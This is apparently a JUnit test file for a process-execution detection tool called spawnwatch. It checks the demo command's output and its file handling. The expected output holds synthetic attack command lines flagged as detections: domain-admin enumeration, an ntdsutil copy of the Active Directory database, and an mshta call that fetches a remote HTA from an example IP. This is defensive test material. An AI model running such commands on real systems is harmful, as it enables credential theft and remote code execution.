package io.spawnwatch.cli;

import static org.assertj.core.api.Assertions.assertThat;

import io.spawnwatch.CommandRun;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.HashSet;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

@Tag("slow")
class DemoCommandTest {
    private static final String SHOWN = """
        'Process Execution via WMI' over 4,000 events of one Monday morning ...

                RISK  WHO              ATT&CK  SEVERITY  HOSTS
        ATTACK   294  CORP\\adm.petrov  T1047   medium    3
          srv-files01.corp.example, risk 98
            2026-11-16 09:02:10Z  cmd.exe /Q /c whoami 1>
                                  \\\\127.0.0.1\\ADMIN$\\__1794819750.21 2>&1
            2026-11-16 09:02:28Z  [2 times] cmd.exe /Q /c net group "Domain Admins"
                                  /domain 1> \\\\127.0.0.1\\ADMIN$\\__1794819750.21 2>&1
          srv-sql02.corp.example, risk 98
            2026-11-16 09:02:41Z  cmd.exe /Q /c tasklist 1>
                                  \\\\127.0.0.1\\ADMIN$\\__1794819750.21 2>&1
            2026-11-16 09:02:59Z  powershell.exe -NoP -W Hidden -Enc
                                  UwB0AGEAcgB0AC0AUwBsAGUAZQBwACAANgAwAA==
          srv-dc01.corp.example, risk 98
            2026-11-16 09:03:08Z  cmd.exe /Q /c ntdsutil "ac i ntds" ifm "create full
                                  c:\\temp\\x4" q q
            2026-11-16 09:03:23Z  cmd.exe /Q /c ntdsutil "ac i ntds" ifm "create full
                                  c:\\temp\\x5" q q
                  49  CORP\\d.tanaka    T1047   medium    1
          lt-0007.corp.example, risk 49
            2026-11-13 17:41:34Z  [late] mshta.exe http://198.51.100.7/update.hta
                  49  KIOSK-03\\guest   T1047   medium    1
          kiosk-03.corp.example, risk 49
            2026-11-18 09:28:21Z  [clock_skew] calc.exe

        ALLOWED inventory-service: 32 rows on 25 hosts. The inventory service asks every
                machine what is in it (CHG-2291). Owner: endpoint-team@corp.example

          events read               4,000   in SECONDS
            process events          2,248
              clock skew               16   far ahead of arrival; move no window
            other events            1,746   valid, but not process creations
            rejected                    6   unusable; see --keep
          matched                      41   once for each detection
            late                        1   after the allowed lateness; still reported
          suppressed                   32   rows that the allowlist covers; see --keep
          risk events                   9   each revision counted

        Try next
          the same in the browser:
            java -jar job/target/spawnwatch.jar demo --watch
          keep the events, the allowlist and all results:
            java -jar job/target/spawnwatch.jar demo --keep DIR
          your own events and detections:
            java -jar job/target/spawnwatch.jar replay --input DIR \\
              --detections DIR --output FILE.jsonl
          which of your detections run here, and why the others do not:
            java -jar job/target/spawnwatch.jar check --detections DIR
          live on Kafka: 'Live use with Kafka' in job/README.md
        """;

    @Test
    void theAttackAndTheAllowedAreShownAndNoFileIsLeft() throws IOException {
        Path temporary = Path.of(System.getProperty("java.io.tmpdir"));
        Set<String> before = ownNames(temporary);
        CommandRun run = CommandRun.successful("demo");

        assertThat(run.err()).isEmpty();
        assertThat(run.out().replaceFirst("in [0-9.]+ s\n", "in SECONDS\n")).isEqualTo(SHOWN);
        assertThat(run.out().lines())
                .allSatisfy(line -> assertThat(line.length()).isLessThanOrEqualTo(80));
        assertThat(ownNames(temporary)).isSubsetOf(before);
    }

    @Test
    void filesAreKeptOnRequest(@TempDir Path parent) throws IOException {
        Set<String> outputs = new HashSet<>();
        for (int i = 0; i < 2; i++) {
            Path folder = parent.resolve("my demo " + i);
            CommandRun run = CommandRun.successful("demo", "--keep", folder.toString());

            assertThat(run.err()).isEmpty();
            assertThat(run.out())
                    .contains("The events, the allowlist and all results are in " + folder + "\n")
                    .contains("      --input '" + folder.resolve("events.jsonl.gz") + "'\n")
                    .contains("see suppressed.jsonl\n")
                    .contains("see rejected.jsonl\n");
            outputs.add(run.out().replaceFirst("in [0-9.]+ s\n", "in SECONDS\n").replace("my demo " + i, "my demo"));
            assertThat(names(folder))
                    .containsExactly(
                            "allowlist.yml",
                            "events.jsonl.gz",
                            "rejected.jsonl",
                            "risk-events.jsonl",
                            "suppressed.jsonl");
            assertThat(CommandRun.jsonLines(folder.resolve("risk-events.jsonl")))
                    .hasSize(9);
            assertThat(CommandRun.jsonLines(folder.resolve("suppressed.jsonl"))).hasSize(32);
            assertThat(CommandRun.jsonLines(folder.resolve("rejected.jsonl")).stream()
                            .map(rejected -> rejected.get("reason").textValue()))
                    .containsExactly(
                            "malformed", "malformed", "no_timestamp", "malformed", "malformed", "no_timestamp");
        }
        assertThat(outputs).hasSize(1);
    }

    @Test
    void nobodysOwnFilesAreReplaced(@TempDir Path folder) throws IOException {
        Path own = Files.writeString(folder.resolve("allowlist.yml"), "mine");
        CommandRun run = CommandRun.of("demo", "--keep", folder.toString());

        assertThat(run)
                .isEqualTo(
                        new CommandRun(2, "", "--keep: " + folder + " is not empty; name a new or an empty folder\n"));
        assertThat(own).hasContent("mine");
    }

    /** The files that the demo or Flink may leave; other processes use the folder too. */
    private static Set<String> ownNames(Path temporary) throws IOException {
        Set<String> names = names(temporary);
        names.removeIf(name -> !name.matches("(?i)(spawnwatch|flink|blobStore|minicluster|rocksdb|localState|tm_).*"));
        return names;
    }

    @Test
    void aFolderThatCannotBeCreatedIsNamed(@TempDir Path parent) throws IOException {
        Path file = Files.writeString(parent.resolve("file"), "x");
        CommandRun run = CommandRun.of("demo", "--keep", file.toString());

        assertThat(run.exitCode()).isEqualTo(2);
        assertThat(run.err()).startsWith("--keep: the files cannot be written to " + file);
    }

    private static Set<String> names(Path folder) throws IOException {
        try (Stream<Path> files = Files.list(folder)) {
            return files.map(file -> file.getFileName().toString())
                    .filter(name -> !name.startsWith("hsperfdata"))
                    .collect(Collectors.toCollection(TreeSet::new));
        }
    }

    @Test
    void eventsAreWrittenToAFileOnRequest(@TempDir Path folder) throws IOException {
        Path file = folder.resolve("events");
        CommandRun run = CommandRun.successful("demo", "--write-events", file.toString());

        assertThat(run.out()).isEmpty();
        byte[] written = Files.readAllBytes(file);
        int lines = 0;
        for (byte character : written) {
            lines += character == '\n' ? 1 : 0;
        }
        assertThat(lines).isEqualTo(4_000);
        assertThat(written[written.length - 1]).isEqualTo((byte) '\n');
    }

    @Test
    void eventsKeepTheirTimesOnlyOnRequest(@TempDir Path folder) throws IOException {
        Path moved = folder.resolve("moved");
        Path kept = folder.resolve("kept");
        Instant before = Instant.now();
        CommandRun.successful("demo", "--write-events", moved.toString());
        CommandRun.successful("demo", "--write-events", kept.toString(), "--keep-times");

        assertThat(lastTime(kept)).isEqualTo("2026-11-16T10:46:26.221Z");
        assertThat(Instant.parse(lastTime(moved))).isBetween(before.minusSeconds(60), Instant.now());
    }

    /** The time of the last Winlogbeat event, which has its time in one field. */
    private static String lastTime(Path file) throws IOException {
        return Files.readAllLines(file).stream()
                .filter(line -> line.startsWith("{\"@timestamp\":"))
                .filter(line -> !line.contains("kiosk"))
                .reduce((earlier, later) -> later)
                .map(line -> line.split("\"", -1)[3])
                .orElseThrow();
    }

    @Test
    void keepTimesNeedsWriteEvents() {
        CommandRun run = CommandRun.of("demo", "--keep-times");
        assertThat(run.exitCode()).isEqualTo(2);
        assertThat(run.err()).startsWith("--keep-times needs --write-events");
        assertThat(run.out()).isEmpty();
    }
}
